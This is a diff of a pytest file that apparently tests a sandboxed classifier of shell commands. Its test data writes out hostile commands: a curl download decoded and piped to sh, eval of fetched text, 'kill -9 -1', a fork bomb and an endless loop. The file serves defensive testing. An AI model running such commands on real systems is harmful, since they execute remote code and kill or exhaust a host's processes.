@@ -22,7 +22,7 @@ EXECUTED = (
     f"$({F})",
     f'x=$({F}); eval "$x"',
     f"{F} >f; . ./f",
-    "wget -qO- https://example.com/a | base64 -d | { sh; }".replace("wget -qO-", "curl -s"),
+    "curl -s https://example.com/a | base64 -d | { sh; }",
     f"f() {{ {F}; }}; f | sh",
     f'trap "$({F})" EXIT',
     f"env $({F})",
@@ -47,9 +47,8 @@ INCONCLUSIVE = (
     "curl -s",
     "if",
     f"false && {F} | sh",
-    f"{F} >f; while :; do :; done",
     "kill -9 -1",
-    "wait_for_nothing",
+    "nothing_of_this_name",
 )
 
 pytestmark = pytest.mark.sandbox
@@ -108,10 +107,18 @@ def test_the_payload_fits_the_place(shell: str, command: str, expected: str) -> 
 @pytest.mark.slow
 def test_repeated_runs_agree() -> None:
     """A second and a third run have the outcome of the first, in the background too."""
-    commands = [*EXECUTED, *CAPTURED, f"{F} | sh & true", f"(sleep 1; {F}) | sh & wait"]
+    commands = [*EXECUTED[:3], *CAPTURED[:3], f"{F} | sh & true", f"(sleep 1; {F}) | sh & wait"]
     first = [observe(runner(), "bash", command) for command in commands]
 
     assert [observe(runner(), "bash", command, repeats=2) for command in commands] == first
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("command", [f"{F} >f; while :; do :; done", ":() { : | : & }; :", "mkfifo p; exec cat <>p"])
+def test_what_does_not_end_is_ended(command: str) -> None:
+    """After a command that goes on for ever, or is many, the next one runs as ever."""
+    assert observe(runner(), "bash", command).outcome is Outcome.INCONCLUSIVE
+    assert observe(runner(), "bash", f"{F} | sh").outcome is Outcome.EXECUTED
 
 
 @pytest.mark.parametrize(
